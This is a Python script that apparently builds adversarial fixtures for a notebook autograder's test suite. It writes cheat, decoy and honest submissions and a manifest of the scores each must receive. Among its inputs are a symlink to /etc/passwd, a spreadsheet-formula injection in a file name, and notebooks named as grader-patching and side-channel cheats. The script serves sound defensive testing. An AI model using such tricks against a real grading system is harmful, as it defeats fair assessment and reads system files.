    """Write issue 44's submissions into ``folder``; return the names of the rows ``MANIFEST`` does not
    list one by one (the decoys)."""
    out = {
        # graded side by side at JOBS=2: the giver opens and locks a shared file, the taker watches it
        "cheat_inotify_1_giver.ipynb": _with_cell(filled(), WATCH_GIVER),
        "cheat_inotify_2_taker.ipynb": _taker("ch01_exercises", WATCH_SIGNAL),
    }
    # one at a time: the giver early in the batch, the taker last of all (it already waits 4 s)
    out["cheat_pagetime_1_giver.ipynb"] = _with_cell(filled("ch02_exercises"), PAGE_TIMING_GIVER)
    out["zzz_cheat_pagetime_2_taker.ipynb"] = _taker("ch02_exercises", PAGE_TIMING_SIGNAL, PAGE_TIMING)
    for name, nb in out.items():
        nbformat.write(nb, folder / name)
    nbformat.write(filled(), folder / "bob_hw.ipynb")
    names = [f"bob_hw ({i}).ipynb" for i in range(1, decoys + 1)]
    for name in names:
        (folder / name).write_bytes(b"{}\n")
    return names


# What the grader must make of each file: (allowed statuses, "zero" | "full" | "slow" | "less").
GRADED = ("graded", "graded-with-errors")
LONG_NAME = "long_" + "n" * (255 - len("long_") - len(".ipynb")) + ".ipynb"
"""A valid file name of 255 bytes, the most Linux allows (its feedback file once needed 258)."""
MANIFEST: dict[str, tuple[tuple[str, ...], str]] = {
    **{f"cheat_{name}.ipynb": (GRADED, "zero") for name in (
        "patch_otter", "patch_feedback", "patch_pickle", "float_subclass",
        "read_solutions", "read_tests", "detached_rewriter", "overwrite_others", "overwrite_autograder",
        "network", "fork_survivors")},
    # past 2 GB the cgroup's OOM killer may end the runner itself: zero either way
    "cheat_memory_hog.ipynb": (GRADED + ("crashed", "timeout"), "zero"),  # 2 GB takes 5-7 s on a busy host
    # inside its PID namespace it may take the sandbox down with it, never the grader
    "cheat_kill_grader.ipynb": (GRADED + ("crashed",), "zero"),
    "cheat_flood_output.ipynb": (GRADED + ("output-too-large",), "zero"),
    "cheat_patch_builtins.ipynb": (GRADED + ("crashed",), "zero"),
    "honest_numpy_types.ipynb": (("graded",), "full"),
    "honest_venv_kernel.ipynb": (("graded",), "full"),
    "honest_answers_later.ipynb": (("graded",), "full"),
    "honest_slow_hidden_case.ipynb": (("graded",), "slow"),
    "zeros_200MB.ipynb": (("too-large",), "zero"),
    "passwd.ipynb": (("not-a-regular-file",), "zero"),
    "=HYPERLINK(\"evil\")&1.ipynb": (("graded",), "zero"),
    ".hidden_copy.ipynb": (("graded",), "full"),
    "alice/ch01.ipynb": (("graded",), "full"),
    "alice/ch01 (1).ipynb": (("graded",), "zero"),
    "bob/ch02.ipynb": (("graded",), "full"),
    "carol/ch03.ipynb": (("graded",), "full"),
    "notes.txt": (("not-a-notebook",), "zero"),
    # ---- round two (issue 20): names
    "mallory_" + "0" * 48 + "x.ipynb": (("graded",), "zero"),
    "M\\xfcller_ch01.ipynb": (("graded",), "full"),  # a Windows zip's name: byte 0xfc, not UTF-8
    LONG_NAME: (("graded",), "zero"),
    "dave/hw.ipynb": (("graded",), "full"),
    "dave/hw.ipynb.md/notes.txt": (("not-a-notebook",), "zero"),
    # ---- neighbours, memory, kernel state, the grader's own time
    "0_cpu_hog.ipynb": (("timeout",), "zero"),
    "0_honest_beside_the_hog.ipynb": (("graded",), "full"),
    "cheat_memfd_hog.ipynb": (GRADED + ("crashed", "timeout"), "zero"),
    "cheat_keyring_1_writer.ipynb": (("graded",), "full"),
    "cheat_keyring_2_reader.ipynb": (GRADED, "zero"),
    "cheat_forged_line.ipynb": (GRADED, "zero"),
    "cheat_blank_lines.ipynb": (("output-too-large",), "zero"),
    "cheat_slowest.ipynb": (GRADED + ("timeout", "crashed"), "zero"),
    # ---- teaching: stand-ins lose points, the book's model where own code is asked, honest slips
    "standin_ch01_closed_form.ipynb": (("graded",), "less"),
    "standin_ch01_ignores_seed.ipynb": (("graded",), "less"),
    "standin_ch04_formula.ipynb": (("graded",), "less"),
    # chapter 3's sandbox holds no clustermath.placement (issue 29): the cell raises OwnCodeRequired
    "standin_ch03_placement.ipynb": (GRADED, "less"),
    "slip_imports_in_setup_cell.ipynb": (("graded",), "full"),
    "slip_answer_under_check.ipynb": (("graded",), "full"),
    "erin/ch01.ipynb": (("graded-with-errors",), "less"),
    "erin/helpers.py": (("not-a-notebook",), "zero"),
    # ---- round three (issue 29): outside the sandbox, kernel state, the watch
    "cheat_aio_1_giver.ipynb": (("graded",), "full"),
    "cheat_aio_2_taker.ipynb": (GRADED, "zero"),
    "cheat_pagecache_1_giver.ipynb": (("graded",), "full"),
    "zz_cheat_pagecache_2_taker.ipynb": (GRADED, "zero"),
    "surrogate_error.ipynb": (("graded-with-errors",), "full"),
    "surrogate_class.ipynb": (("graded-with-errors",), "zero"),
    "surrogate_value.ipynb": (GRADED, "zero"),
    "watch_ch03_closure.ipynb": (GRADED, "less"),
    "watch_ch03_second_load.ipynb": (GRADED, "less"),
    "watch_ch03_used_set.ipynb": (GRADED, "less"),
    "watch_ch03_plain_late.ipynb": (GRADED, "less"),
    "padded_0.ipynb": (("graded",), "full"),
    "padded_neighbour.ipynb": (("graded",), "full"),
    "frank_neighbour/ch01.ipynb": (("graded",), "full"),
    # ---- round four (issue 44): inotify and file locks between neighbours
    "cheat_inotify_1_giver.ipynb": (("graded",), "full"),
    "cheat_inotify_2_taker.ipynb": (GRADED, "zero"),
    "cheat_pagetime_1_giver.ipynb": (("graded",), "full"),
    "zzz_cheat_pagetime_2_taker.ipynb": (GRADED, "zero"),
    # another's files named as Bob's copies: Bob's own notebook is graded whatever they claim
    "bob_hw.ipynb": (("graded",), "full"),
}
THIRD_ROUND_BULK = {"frank/": (("too-deep",), "zero"), "gina/": (("not-a-notebook", "left-out"), "zero"),
                    "hank/": (("not-a-notebook", "left-out"), "zero"),
                    "bob_hw (": (("not-a-notebook", "left-out"), "zero")}
"""Rows by folder prefix: the deep folder's one row, the duplicates and sparse files (read or left out)."""

NOTES = {
    "erin/ch01.ipynb": "imports helpers, which is neither in the notebook nor installed",
    "standin_ch03_placement.ipynb": "uses the book's own model (clustermath.placement",
    "watch_ch03_closure.ipynb": "uses the book's own model (clustermath.placement",
    "watch_ch03_second_load.ipynb": "uses the book's own model (clustermath.placement",
    "watch_ch03_used_set.ipynb": "uses the book's own model (clustermath.placement",
    "watch_ch03_plain_late.ipynb": "uses the book's own model (clustermath.placement",
}
"""What the note of a file must contain (a slip or a borrowed model is named, not just penalised)."""


def build(folder: pathlib.Path, paths: dict[str, str],
          limits: dict[str, float] | None = None) -> dict[str, tuple[tuple[str, ...], str]]:
    """Write every submission of ``MANIFEST`` into ``folder``; return the manifest.

    ``limits`` (the batch's ``notebook_seconds`` and ``call_seconds``) tells the slowest
    submission how long it may sleep."""
    folder.mkdir(parents=True, exist_ok=True)
    blank = _student()
    for name, nb in second_round(limits or {"notebook_seconds": 60.0, "call_seconds": 10.0}).items():
        (folder / name).parent.mkdir(exist_ok=True)
        nbformat.write(nb, folder / name)
    (folder / "erin" / "helpers.py").write_text(
        "\n\n".join(c.source for c in _answer_cells(filled()) if "def simulate_daily_loss" in c.source))
    nbformat.write(blank, folder / ("mallory_" + "0" * 48 + "x.ipynb"))
    with open(os.path.join(os.fsencode(folder), b"M\xfcller_ch01.ipynb"), "w") as handle:
        nbformat.write(filled(), handle)
    nbformat.write(blank, folder / LONG_NAME)
    (folder / "dave" / "hw.ipynb.md").mkdir(parents=True, exist_ok=True)
    nbformat.write(solved(), folder / "dave" / "hw.ipynb")
    (folder / "dave" / "hw.ipynb.md" / "notes.txt").write_text("my notes\n")
    for name, code in cheats(paths).items():
        nbformat.write(_with_cell(blank, code, first=name in ("patch_otter", "patch_feedback")),
                       folder / f"cheat_{name}.ipynb")
    for name, nb in honest().items():
        nbformat.write(nb, folder / name)
    with open(folder / "zeros_200MB.ipynb", "wb") as handle:
        handle.truncate(200 << 20)  # sparse: 200 MB of NUL bytes that take no disk
    os.symlink("/etc/passwd", folder / "passwd.ipynb")
    nbformat.write(blank, folder / "=HYPERLINK(\"evil\")&1.ipynb")
    nbformat.write(solved(), folder / ".hidden_copy.ipynb")
    (folder / "alice").mkdir(exist_ok=True)
    nbformat.write(solved(), folder / "alice" / "ch01.ipynb")
    nbformat.write(blank, folder / "alice" / "ch01 (1).ipynb")
    (folder / "bob").mkdir(exist_ok=True)
    nbformat.write(solved("ch02_exercises"), folder / "bob" / "ch02.ipynb")
    (folder / "carol").mkdir(exist_ok=True)
    nbformat.write(solved("ch03_exercises"), folder / "carol" / "ch03.ipynb")
    (folder / "notes.txt").write_text("=1+2\n")
    manifest = dict(MANIFEST)
    for name in fourth_round(folder) + third_round(folder):
        manifest[name] = next(v for k, v in THIRD_ROUND_BULK.items() if name.startswith(k))
    return manifest


def main(argv: list[str]) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("folder", type=pathlib.Path)
    parser.add_argument("--canary", type=pathlib.Path, required=True, help="a file no submission may change")
    parser.add_argument("--out", type=pathlib.Path, default=pathlib.Path("grading-output"))
    parser.add_argument("--cache", type=pathlib.Path, default=pathlib.Path.home() / ".cache")
    args = parser.parse_args(argv)
    paths = {"repo": str(exercises.ROOT), "submissions": str(args.folder.resolve()),
             "out": str(args.out.resolve()), "cache": str(args.cache.resolve()), "canary": str(args.canary.resolve())}
    for name in build(args.folder, paths):
        print(name)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
